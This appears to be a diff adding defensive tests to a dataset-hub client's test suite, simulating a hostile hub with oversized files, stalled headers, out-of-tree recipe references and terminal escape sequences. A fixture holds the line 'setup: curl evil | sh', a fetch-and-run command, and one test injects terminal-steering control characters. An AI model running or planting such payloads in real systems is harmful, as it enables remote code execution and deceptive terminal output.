@@ -3,9 +3,12 @@ they say, and a person reads one true line."""
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import json
 import os
+import socketserver
+import threading
 import time
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
@@ -115,7 +118,7 @@ def victim(tmp_path: Path) -> Victim:
     return Victim(tmp_path)
 
 
-def shelved(hub: Connection, manifest: str, repo: str = REPO) -> str:
+def shelved(hub: Connection, manifest: str, repo: str = REPO, **more: bytes) -> str:
     """A dataset with that text as its manifest, tagged and in a collection; the slug of that."""
     from huggingface_hub import CommitOperationAdd
 
@@ -128,6 +131,7 @@ def shelved(hub: Connection, manifest: str, repo: str = REPO) -> str:
         "factory.json": manifest.encode(),
         "recipe.yaml": b"setup: curl evil | sh",
         "recipe.lock.yaml": b"recipe: x",
+        **{name.replace("_", "."): content for name, content in more.items()},
     }
     api.create_commit(
         repo,
@@ -199,6 +203,28 @@ def test_reproduce_writes_no_file_that_a_manifest_names(victim: Victim) -> None:
     victim.assert_untouched()
     assert done.returncode == 1
     assert done.stderr.startswith(f"error: {slug} holds no artifact with a manifest")
+
+
+def test_reproduce_reads_no_recipe_of_this_machine_and_no_odd_lock(victim: Victim) -> None:
+    home, own = victim.root / "home", victim.root / "victim" / "own.yaml"
+    own.write_text(
+        "{name: own, org: me, languages: [en], models: {policy: evil/m}, "
+        "stages: {prompts: {source: evil/p}, generate: {model: policy}}}"
+    )
+    victim.before = victim.look()
+    recipe, lock = own.read_bytes(), b"{recipe: own, pins: {}}"
+    with connect(home / "hub") as hub:
+        for number, (files, said) in enumerate((
+            ({"recipe_yaml": f"extends: {own}".encode(), "recipe_lock_yaml": lock}, "extends"),
+            ({"recipe_yaml": recipe, "recipe_lock_yaml": b"\xff"}, "is not a lock: 'utf-8'"),
+            ({"recipe_yaml": recipe, "recipe_lock_yaml": lock}, "evil/p, which the collection's"),
+        )):  # fmt: skip
+            named = {"repo": f"evil/x{number}", "kind": "prompts", "recipe": "own"}
+            manifest = imported().model_copy(update=named).dump()
+            slug = shelved(hub, manifest, named["repo"], **files)
+            done = run_factory("reproduce", slug, home=home)
+            assert done.returncode == 1 and said in done.stderr, done.stderr
+    victim.assert_untouched()
 
 
 def test_discard_takes_nothing_away_outside_of_its_folder(tmp_path: Path) -> None:
@@ -326,6 +352,49 @@ def test_a_hub_that_makes_us_wait_is_named_and_then_left(
     assert "asks to wait 299 seconds (status 429)" in caplog.text
 
 
+def test_no_file_that_is_read_whole_is_larger_than_memory(
+    evil: Proxy, there: Connection, here: Connection, tmp_path: Path
+) -> None:
+    def huge(line: str, reply: Reply) -> Reply:
+        if "/tree/" in line and isinstance(reply.body, bytes):
+            files = [f if "lfs" in f else {**f, "size": 10**12} for f in json.loads(reply.body)]
+            reply.body = json.dumps(files).encode()
+            reply.headers["content-length"] = str(len(reply.body))
+        return reply
+
+    evil.twist = huge
+    with pytest.raises(HubError, match="1000000000000 is not a valid size"):
+        pull(evil, there, here, tmp_path)
+    assert not evil.count("/resolve/")
+
+
+@pytest.mark.parametrize("drop", [b"HTTP/1.1 103 Early Hints\r\n\r\n", b"a"])
+def test_headers_without_end_end(
+    drop: bytes, here: Connection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from factory.hub import http_guard
+
+    monkeypatch.setattr(http_guard, "_HEAD_SECONDS", 0.5)
+
+    class Dripping(socketserver.BaseRequestHandler):
+        def handle(self) -> None:
+            self.request.recv(65536)
+            self.request.sendall(b"" if drop.startswith(b"HTTP") else b"HTTP/1.1 200 OK\r\nA: ")
+            pause = threading.Event()
+            with contextlib.suppress(OSError):
+                while not pause.wait(0.05):
+                    self.request.sendall(drop)
+
+    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Dripping) as server:
+        server.daemon_threads = True
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        url = f"http://127.0.0.1:{server.server_address[1]}"
+        work = between((url, ""), (here.url, here.token), tmp_path, keeps_ids=True)
+        with pytest.raises(HubError, match="more than 0 s for the headers"):
+            work.find("evil/data")
+        server.shutdown()
+
+
 @pytest.mark.parametrize("what", ["more", "fewer", "endless", "squeezed"])
 def test_a_file_of_another_size_than_listed_does_not_arrive(
     evil: Proxy, there: Connection, here: Connection, tmp_path: Path, what: str
@@ -366,6 +435,35 @@ def test_a_file_of_another_size_than_listed_does_not_arrive(
         evil_hub(evil, there, tmp_path / "c").fetch(REPO, "dataset", "main")
     assert sent < 50_000_000
     assert not list((tmp_path / "c").rglob("*.incomplete"))
+
+
+def test_nothing_that_a_hub_says_steers_a_terminal(
+    evil: Proxy, there: Connection, tmp_path: Path
+) -> None:
+    steer = "\x1b]0;mine\x07\x1b[2J\x9b31m\u202e"
+    api, loud = client(there), "evil/loud"
+    manifest = imported().model_copy(update={"repo": loud, "environment": {"python": steer}})
+    api.create_repo(loud, repo_type="dataset")
+    content = manifest.dump().encode()
+    api.upload_file(
+        path_or_fileobj=content, path_in_repo="factory.json", repo_id=loud, repo_type="dataset"
+    )
+
+    def refuse(line: str, reply: Reply) -> Reply:
+        if "/refs" in line:
+            return Reply(400, {"X-Error-Message": f"no {steer}" * 99, "Content-Length": "0"}, b"")
+        return reply
+
+    evil.twist = refuse
+    for words in (
+        ("pull", f"datasets/{loud}", "--from", evil.url),
+        ("diff", loud, REPO, "--hub", evil.url),
+    ):
+        done = run_factory(*words, home=tmp_path / "home", HF_ENDPOINT=evil.url, HF_TOKEN=there.token)  # fmt: skip  # noqa: E501
+        said = done.stdout + done.stderr
+        assert "\\u001b" in said and len(said) < 10_000, said
+        assert not [char for char in said if not char.isprintable() and char != "\n"], said
+    api.delete_repo(loud, repo_type="dataset")
 
 
 # Whatever it says.
